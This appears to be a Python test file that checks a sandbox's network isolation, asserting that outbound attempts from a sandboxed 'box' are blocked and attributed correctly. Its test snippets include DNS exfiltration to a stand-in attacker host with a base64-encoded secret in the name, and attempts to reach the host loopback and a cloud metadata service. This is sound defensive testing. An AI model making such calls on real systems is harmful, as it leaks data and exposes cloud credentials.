"""The network: a box has the test's and no more, and what it tries is told apart from what the test does."""

from __future__ import annotations

import contextlib
import os
import socket
from typing import Any

from boxes import Attempt

EVIL = "evil.example"


def test_exfiltration(attempt: Attempt, netns_egress: Any, box: Any) -> None:
    """What is not allowed is refused and reported as the box's: by name, by address, by another's name.

    Known from: Claude Code CVE-2025-55284 (by DNS).
    """
    done = attempt(f"""
tell("name", lambda: socket.getaddrinfo({EVIL!r}, 443))
tell("hidden in a name", lambda: socket.getaddrinfo("c2vjcmv0.{EVIL}", 443))
tell("address", lambda: socket.create_connection(("203.0.113.5", 443), 5))
tell("address", lambda: socket.create_connection(("2001:db8::5", 443), 5))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tell("udp", lambda: (udp.connect(("203.0.113.6", 53)), udp.send(b"x"), udp.settimeout(3), udp.recv(1)))
""")
    assert "DONE" not in done.stdout
    seen = {(flow.endpoint, flow.sandbox) for flow in netns_egress.blocked}
    assert {
        (f"dns {EVIL}", box.name),
        (f"dns c2vjcmv0.{EVIL}", box.name),
        ("tcp 203.0.113.5:443", box.name),
        ("tcp [2001:db8::5]:443", box.name),
        ("udp 203.0.113.6:53", box.name),
    } <= seen
    assert box.flows == [flow for flow in netns_egress.flows if flow.sandbox == box.name]


def test_flows_are_told_apart(attempt: Attempt, netns_egress: Any, box: Any) -> None:
    """What the test tries while a box lives is the test's own, and from the box's port it is still the box's."""
    attempt("tell('box', lambda: socket.create_connection(('203.0.113.7', 80), 5, source_address=('', 4444)))")
    with contextlib.suppress(OSError):
        socket.create_connection(("203.0.113.8", 80), 5, source_address=("", 4444))
    assert [(flow.address, flow.sandbox) for flow in netns_egress.blocked] == [
        ("203.0.113.7", box.name),
        ("203.0.113.8", None),
    ]


def test_socket_is_juggled(attempt: Attempt, netns_egress: Any, box: Any) -> None:
    """A socket that is closed as soon as it has been used, or passed around, is not booked on the test."""
    attempt("""
for n in range(5):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("203.0.113.9", 1000 + n))
    except BlockingIOError: pass
    pid = os.fork()
    if not pid: os._exit(0)
    s.close(); os.waitpid(pid, 0)
time.sleep(0.2)
""")
    assert netns_egress.blocked
    assert {flow.sandbox for flow in netns_egress.blocked} == {box.name}


def test_leaf_is_shared(attempt: Attempt) -> None:
    """A server of the test's on loopback can be reached, as it is the same network: that is what it is for."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        done = attempt(
            f"tell('own', lambda: socket.create_connection(('127.0.0.1', {server.getsockname()[1]}), 5).close())"
        )
    assert "own: DONE" in done.stdout


def test_host_loopback(attempt: Attempt) -> None:
    """The host's own loopback, and a cloud's metadata service, are not reached.

    Known from: Kubernetes CVE-2020-8558, and Capital One's loss of 2019 by the metadata service.
    """
    port = os.environ["OUTSIDE_PORT"]
    done = attempt(f"""
tell("loopback", lambda: socket.create_connection(("127.0.0.1", {port}), 5))
tell("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 5))
tell("hub", lambda: socket.create_connection(("198.18.0.1", 22), 5))
""")
    assert "DONE" not in done.stdout
